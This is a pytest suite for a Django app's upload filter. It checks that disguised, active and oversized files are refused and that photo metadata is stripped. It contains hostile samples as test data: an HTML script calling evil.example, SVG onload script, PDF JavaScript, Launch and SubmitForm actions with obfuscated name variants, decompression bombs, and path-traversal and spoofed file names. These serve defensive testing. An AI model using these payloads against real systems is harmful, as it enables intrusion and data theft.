"""Files that are not what they say, hide something, or would eat the machine."""

import io
import random
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from iop.documents import contents, pictures
from iop.documents.actions import store_file
from iop.documents.pictures import repainted
from tests.documents.files import pdf, pdf_with_stream, picture, png_bomb, told_picture
from tests.factories.ground import make_actor

HTML = b"<html><script>fetch('//evil.example')</script></html>"
ZIP = b"PK\x03\x04" + b"\0" * 200 + b"PK\x05\x06" + b"\0" * 18
SVG = b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"


@pytest.mark.parametrize(
    "content", [HTML, SVG, ZIP, b"MZ" + b"\0" * 64, b"#!/bin/sh\n", b"\0" * 64, b"RIFF\0\0\0\0WEBPVP8 "]
)
def test_a_disguise_is_seen_through(content):
    assert "something else, whatever its name says" in str(contents.why_refused(content))


def test_a_file_without_content_is_refused():
    assert "empty" in str(contents.why_refused(b""))


@pytest.mark.parametrize("extra", [
    "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", "/AA << /O << /S /JavaScript /JS 5 0 R >> >>", "/Names << /JavaScript 6 0 R >>",
    "/OpenAction << /S /Launch /F (cmd.exe) >>", "/Names << /EmbeddedFiles 7 0 R >>", "/AcroForm << /XFA 8 0 R >>", "/AcroForm << /XFA [ (a) 8 0 R ] >>",
    "/OpenAction << /S /SubmitForm /F (http://evil.example) >>", "/OpenAction << /S /Rendition /JS (x) >>", "/OpenAction << /S /GoToE >>",
    "/OpenAction << /S /J#61vaScript /J#53 (x) >>",
])  # fmt: skip
def test_a_pdf_that_acts_is_refused(extra):
    assert "carries a program" in str(contents.why_refused(pdf(extra)))


def test_a_script_in_packed_objects_is_found():
    packed = zlib.compress(b"5 0 << /S /JavaScript /JS (x) >>")
    assert contents.is_active(pdf_with_stream(packed, "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"))


def test_a_script_far_inside_a_packed_part_is_found():
    packed = zlib.compress(b" " * (contents.PIECE - 6) + b"/JavaScript " + b" " * 500)
    assert contents.is_active(pdf_with_stream(packed))


@pytest.mark.parametrize("filters", [
    "/Filter [ /ASCIIHexDecode /FlateDecode ]", "/Filter /LZWDecode", "/Filter /ASCII85Decode",
    "/Filter /FlateDecode /DecodeParms << /Predictor 12 >>", "/Filter /Fl", "/Filter /Flate#44ecode /DecodeParms << /Predictor 15 >>",
])  # fmt: skip
def test_objects_packed_so_that_they_cannot_be_checked_are_refused(filters):
    assert contents.is_active(pdf_with_stream(b"0000", f"/Type /ObjStm /N 1 /First 4 {filters}"))


@pytest.mark.parametrize("extra", ["/Encrypt 9 0 R", "/Encrypt << /Filter /Standard >>", "/#45ncrypt 9 0 R"])
def test_a_locked_pdf_is_refused_because_nobody_can_look_inside(extra):
    assert "locked" in str(contents.why_refused(pdf(extra)))


@pytest.mark.parametrize("behind", [HTML * 3, ZIP, b"MZ" + b"\1" * 100])
def test_a_pdf_with_another_file_behind_its_end_is_refused(behind):
    assert "behind its end" in str(contents.why_refused(pdf(behind=behind)))


@pytest.mark.parametrize("behind", [b"", b"\n\n", b"\0" * 500, b"\r\n \t"])
def test_blanks_behind_the_end_do_no_harm(behind):
    assert contents.why_refused(pdf(behind=behind)) is None


def test_a_pdf_that_was_cut_off_is_refused():
    assert "cut off" in str(contents.why_refused(b"%PDF-1.7\n1 0 obj\n<< >>\nendobj\n"))


@pytest.mark.parametrize("seed", range(3))
def test_a_scan_of_some_megabytes_is_not_taken_for_a_program(seed):
    scan = random.Random(seed).randbytes(4_000_000)
    assert contents.why_refused(pdf_with_stream(scan, "/Subtype /Image /Filter /DCTDecode")) is None


def test_an_uncompressed_looking_scan_of_many_pages_is_kept():
    page = zlib.compress(random.Random(1).randbytes(1000) * 20_000, 1)
    pages = b"".join(b"stream\n" + page + b"\nendstream\n" for _ in range(5))
    assert contents.why_refused(b"%PDF-1.7\n" + pages + b"%%EOF\n") is None


def test_a_pdf_bomb_is_refused(monkeypatch):
    monkeypatch.setattr(contents, "UNPACKED_LIMIT", 8 * 1024 * 1024)
    assert contents.is_active(pdf_with_stream(zlib.compress(b"\0" * (9 * 1024 * 1024))))


def test_a_picture_that_claims_thousands_of_millions_of_points_is_refused():
    assert len(png_bomb()) < 1000
    assert "large" in str(contents.why_refused(png_bomb())) or "damaged" in str(contents.why_refused(png_bomb()))


def test_a_picture_over_our_own_limit_is_refused(monkeypatch):
    monkeypatch.setattr(pictures, "MOST_PIXELS", 1000)
    assert "too large" in str(contents.why_refused(picture("PNG", (40, 30))))


@pytest.mark.parametrize("form", ["JPEG", "PNG"])
def test_a_damaged_picture_is_refused(form):
    whole = picture(form, (400, 300))
    assert "damaged" in str(contents.why_refused(whole[: len(whole) // 2]))


@pytest.mark.parametrize("form", ["JPEG", "PNG"])
def test_where_when_and_with_what_is_gone(form):
    told = told_picture(form)
    assert b"MarkedMaker" in told
    assert b"MarkedComment" in told
    kept = repainted(told)
    assert b"Marked" not in kept
    assert b"Exif" not in kept
    with Image.open(io.BytesIO(kept)) as image:
        assert dict(image.getexif()) == {}
        assert not {"exif", "comment", "Comment", "icc_profile"} & set(image.info)


@pytest.mark.parametrize("form", ["JPEG", "PNG"])
def test_a_turned_picture_stands_upright_afterwards(form):
    with Image.open(io.BytesIO(repainted(told_picture(form, turned=6)))) as image:
        assert image.size == (30, 40)


@pytest.mark.parametrize("form", ["JPEG", "PNG"])
def test_what_is_seen_stays(form):
    with Image.open(io.BytesIO(repainted(picture(form)))) as image:
        left, right = image.convert("RGB").getpixel((5, 15)), image.convert("RGB").getpixel((35, 15))
    assert left[0] > 150 > left[2]
    assert right[2] > 150 > right[0]


@pytest.mark.parametrize("behind", [HTML, ZIP])
@pytest.mark.parametrize("form", ["JPEG", "PNG"])
def test_another_file_behind_a_picture_does_not_come_along(form, behind):
    assert behind not in repainted(picture(form) + behind)


@pytest.mark.parametrize(
    ("form", "mode"),
    [("JPEG", "CMYK"), ("JPEG", "L"), ("PNG", "RGBA"), ("PNG", "P"), ("PNG", "LA"), ("PNG", "1"), ("PNG", "I;16")],
)
def test_every_kind_of_picture_is_repainted(form, mode):
    content = picture(form, mode=mode)
    assert contents.why_refused(content) is None
    with Image.open(io.BytesIO(repainted(content))) as image:
        assert image.size == (40, 30)


@pytest.mark.django_db
def test_what_is_kept_is_the_repainted_picture():
    row = store_file(by=make_actor("counselor"), upload=SimpleUploadedFile("phone.jpg", told_picture()))
    with row.file.open("rb") as kept:
        content = kept.read()
    assert b"Marked" not in content
    assert row.size_bytes == len(content)


@pytest.mark.django_db
@pytest.mark.parametrize(
    "name",
    [
        "card.pdf.exe",
        "card.svg",
        "..\\..\\card.html",
        "card\0.png",
        "a" * 5000 + ".png",
        "\u202egnp.card",
        "  ",
        "con",
        "🙂.png",
    ],
)
def test_no_name_decides_anything(name):
    upload = io.BytesIO(picture("PNG"))
    upload.name = name
    row = store_file(by=make_actor("counselor"), upload=upload)
    assert row.file.name.endswith(".png")
    assert row.content_type == "image/png"
    assert len(row.original_name) <= 300
